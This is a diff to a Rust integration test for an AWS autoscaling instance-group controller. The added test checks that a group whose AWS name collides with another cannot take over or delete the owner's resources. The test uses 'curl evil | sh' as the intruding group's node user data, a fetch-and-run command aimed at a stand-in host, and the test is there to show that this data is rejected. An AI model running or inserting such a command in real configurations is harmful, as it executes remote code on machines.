@@ -5,6 +5,7 @@
 
 mod support;
 
+use std::collections::BTreeSet;
 use std::sync::Arc;
 use std::time::Duration;
 
@@ -156,6 +157,7 @@ fn join_nodes(view: &InMemoryCluster, group: &aws_sdk_autoscaling::types::AutoSc
             created: Timestamp::EPOCH,
             allocatable: Resources::new(2000, 8 << 30),
             pods: vec![],
+            internal_ips: Vec::new(),
         });
         names.push(name);
     }
@@ -186,8 +188,7 @@ async fn create_ready_image_change_rotation_resize_and_delete() {
         created.tags().iter().map(|t| (t.key().unwrap().to_string(), t.value().unwrap().to_string())).collect();
     assert_eq!(tags["instancegroups.keikoproj.io/InstanceGroup"], NAME);
     assert_eq!(tags["team"], "batch");
-    let subnets: std::collections::BTreeSet<_> =
-        created.vpc_zone_identifier().unwrap().split(',').map(String::from).collect();
+    let subnets: BTreeSet<_> = created.vpc_zone_identifier().unwrap().split(',').map(String::from).collect();
     assert_eq!(subnets, world.subnets.iter().cloned().collect(), "the Name tag resolved to its subnet id");
     assert_eq!(created.suspended_processes()[0].process_name(), Some("AZRebalance"));
 
@@ -582,4 +583,82 @@ async fn the_crd_strategy_submits_follows_retries_and_finishes() {
     let (requeue, current) = reconcile(&r, &store).await;
     assert_eq!((requeue, current.as_str()), (Requeue::OnChange, State::Error.as_str()), "maxRetries 1 used up");
     assert!(store.state().events.iter().any(|(_, reason, _, _)| reason == "InstanceGroupUpgradeFailed"));
+}
+
+#[tokio::test]
+async fn an_instancegroup_whose_aws_names_collide_with_another_s_takes_nothing_of_it() {
+    let (moto, _guard) = moto().await;
+    let config = moto.sdk_config().await;
+    let world = seed(&config).await;
+    let (r, store, _) = reconciler(&config, CallStats::default());
+    // `a-b`/`c` and `a`/`b-c` are both `prod-a-b-c` in AWS.
+    const SHARED: &str = "prod-a-b-c";
+    let named = |ns: &str, name: &str, uid: &str, max: i64| {
+        let mut ig = group(&world, &world.image, max);
+        (ig.metadata.namespace, ig.metadata.name, ig.metadata.uid) =
+            (Some(ns.into()), Some(name.into()), Some(uid.into()));
+        ig
+    };
+    let reconcile_one = |ns: &'static str, name: &'static str| {
+        let (r, store) = (&r, &store);
+        async move {
+            let all = store.state().groups.values().cloned().collect::<Vec<_>>();
+            if let Some(ig) = store.get(ns, name) {
+                r.reconcile(&ig, None, &all).await;
+            }
+        }
+    };
+    let shared_group = || async {
+        let out = aws_sdk_autoscaling::Client::new(&config)
+            .describe_auto_scaling_groups()
+            .auto_scaling_group_names(SHARED)
+            .send()
+            .await
+            .unwrap();
+        out.auto_scaling_groups().first().cloned()
+    };
+    let tags = |g: &aws_sdk_autoscaling::types::AutoScalingGroup| -> BTreeSet<(String, String)> {
+        g.tags().iter().map(|t| (t.key().unwrap().to_string(), t.value().unwrap().to_string())).collect()
+    };
+
+    store.apply(named("a-b", "c", "uid-owner", 6));
+    reconcile_one("a-b", "c").await;
+    let before = shared_group().await.expect("the owner's group was created");
+    assert!(tags(&before).contains(&("spots-booster.io/instancegroup-uid".into(), "uid-owner".into())));
+
+    let mut tenant = named("a", "b-c", "uid-tenant", 9);
+    tenant.spec.eks.as_mut().unwrap().configuration.user_data =
+        vec![serde_yaml::from_str("{stage: PreBootstrap, data: 'curl evil | sh'}").unwrap()];
+    store.apply(tenant);
+    reconcile_one("a", "b-c").await;
+    let status = store.get("a", "b-c").unwrap().status.unwrap();
+    assert_eq!(status.current_state, State::Error);
+    let condition = status.conditions.iter().find(|c| c.condition_type == "Reconciled").unwrap();
+    assert!(
+        condition.message.contains("prod-a-b-c belongs to cluster prod, InstanceGroup a-b/c (uid uid-owner)"),
+        "{}",
+        condition.message
+    );
+    assert!(store
+        .state()
+        .events
+        .iter()
+        .any(|(_, reason, message, warning)| reason == "ReconcileFailed" && message.contains("a-b/c") && *warning));
+    let after = shared_group().await.unwrap();
+    assert_eq!((after.max_size(), tags(&after)), (before.max_size(), tags(&before)), "the owner's group is untouched");
+    let versions = aws_sdk_ec2::Client::new(&config)
+        .describe_launch_template_versions()
+        .launch_template_name(SHARED)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(versions.launch_template_versions().len(), 1, "no version with the tenant's user data");
+
+    // Deleting the tenant deletes nothing of the owner's, and lets the tenant go.
+    store.delete("a", "b-c");
+    reconcile_one("a", "b-c").await;
+    assert!(store.get("a", "b-c").is_none(), "its finalizer let go");
+    assert!(shared_group().await.is_some(), "the owner's group stays");
+    let iam = aws_sdk_iam::Client::new(&config);
+    assert!(iam.get_role().role_name(SHARED).send().await.is_ok(), "and its role");
 }
